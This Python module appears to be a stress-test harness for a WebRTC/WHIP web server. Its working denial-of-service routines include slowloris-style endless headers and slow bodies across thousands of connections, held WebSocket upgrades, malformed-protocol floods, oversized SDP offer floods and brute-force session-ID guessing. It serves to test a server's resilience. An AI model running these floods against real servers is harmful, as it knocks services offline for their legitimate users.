"""Attacks on a web server: requests without an end, bodies without an end, offers that never connect, guesses, garbage."""
from __future__ import annotations

import secrets
import select
import time
from typing import Any, Callable, Iterator

import strangers
from addresses import ANOTHER, OTHER, SAME
from wire.web_wire import MASKED_GARBAGE, Connection, endless_head, long_offer, offer, page_upgrade, request

_SOURCES = (OTHER, ANOTHER)


class Crowd:
    """So many connections at a time, from these addresses in turn; who is put out comes again."""

    def __init__(self, target: dict[str, Any], size: int, sources: tuple[str, ...], rate: float = 1000) -> None:
        self.address, self.size, self.sources, self.rate = (target["host"], target["port"]), size, sources, rate
        self.here: list[Connection] = []
        self.made, self.most = 0, 0
        self._poll = select.epoll()
        self._by_number: dict[int, Connection] = {}
        self._began = time.monotonic()

    def fill(self, first: Callable[[], bytes]) -> None:
        """Those who are missing come, and say that."""
        while len(self.here) < self.size and self.made < self.rate * (time.monotonic() - self._began) + 16:
            self.made += 1
            try:
                one = Connection(self.address, self.sources[self.made % len(self.sources)])
            except OSError:
                return
            one.send(first())
            self.here.append(one)
            self._by_number[one.fileno()] = one
            self._poll.register(one.fileno(), select.EPOLLIN | select.EPOLLET)
        self.most = max(self.most, len(self.here))

    def answered(self, wait: float) -> Iterator[Connection]:
        """Those of whom something came; who was put out is forgotten."""
        for number, _ in self._poll.poll(wait):
            one = self._by_number[number]
            if one.read():
                yield one
            elif one.is_over:
                self.forget(one)

    def forget(self, one: Connection) -> None:
        self.here.remove(one)
        del self._by_number[one.fileno()]
        one.close()

    def close(self) -> None:
        for one in list(self.here):
            self.forget(one)


def _slowly(target: dict[str, Any], seconds: float, first: Callable[[], bytes], more: Callable[[], bytes]) -> dict[str, Any]:
    """Thousands who begin a request and go on a little every half second, those of the honest ones' address among them."""
    crowd, end, due = Crowd(target, 3000, (*_SOURCES, SAME)), time.monotonic() + seconds, 0.0
    while time.monotonic() < end:
        crowd.fill(first)
        for _ in crowd.answered(0.01):
            pass
        if time.monotonic() >= due:
            due = time.monotonic() + 0.5
            for one in crowd.here:
                one.send(more())
    crowd.close()
    return {"did": f"{crowd.made:,} connections, {crowd.most:,} at once", "effort": crowd.made}


def halves(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    return _slowly(target, seconds, lambda: endless_head(target["room"]), lambda: b"x")


def bodies(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    whole = request("POST", f"/whip/{target['room']}", b"", {"Content-Type": "application/sdp", "Content-Length": "262144"}) + bytes(60_000)
    pieces = request("POST", f"/whip/{target['room']}", b"", {"Content-Type": "application/sdp", "Transfer-Encoding": "chunked"})
    return _slowly(target, seconds, lambda: secrets.choice((whole, pieces)), lambda: b"1;x=y\r\nx\r\n")


def sockets(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    return _slowly(target, seconds, lambda: page_upgrade(target["room"]), lambda: b"")


def garbage(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    words = [b"\x16\x03\x01" + bytes(16), bytes(range(64)), b"GET / HTTP/9.9\r\n\r\n", b"GET /\r\n" * 20,
             page_upgrade(target["room"]) + MASKED_GARBAGE]
    return strangers.flood(target, seconds, 2000, OTHER, words, held=1.5)


def _repeat(target: dict[str, Any], seconds: float, next_request: Callable[[], bytes], what: str, size: int = 64) -> dict[str, Any]:
    """On connections that stay: as soon as there is an answer, once more."""
    crowd, end = Crowd(target, size, _SOURCES), time.monotonic() + seconds
    answers: dict[str, int] = {}
    while time.monotonic() < end:
        crowd.fill(next_request)
        for one in crowd.answered(0.01):
            for status in one.statuses():
                answers[status] = answers.get(status, 0) + 1
                one.send(next_request())
    crowd.close()
    count = sum(answers.values())
    kinds = ", ".join(f"{number:,} of {status}" for status, number in sorted(answers.items()))
    return {"did": f"{count / seconds:,.0f} {what} a second answered ({kinds}), {crowd.made:,} connections", "effort": crowd.made}


def offers(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    head = {"Content-Type": "application/sdp", "Authorization": f"Bearer {target['token']}"}
    return _repeat(target, seconds, lambda: request("POST", f"/whip/{target['room']}", offer(), head), "offers")


def long_offers(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    head = {"Content-Type": "application/sdp", "Authorization": f"Bearer {target['token']}"}
    texts = [long_offer(64, 65_000), long_offer(255, 65_000), long_offer(1, 1 << 20)]
    return _repeat(target, seconds, lambda: request("POST", f"/whip/{target['room']}", secrets.choice(texts), head), "offers")


def guesses(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    fragment = b"a=ice-ufrag:abcd\r\na=ice-pwd:abcdefghijklmnopqrstuv\r\n"
    head = {"Content-Type": "application/trickle-ice-sdpfrag", "If-Match": "*"}

    def guess() -> bytes:
        path = f"/sessions/{secrets.token_hex(16)}"
        return request("PATCH", path, fragment, head) if secrets.randbelow(2) else request("DELETE", path, b"", {})

    return _repeat(target, seconds, guess, "guesses")
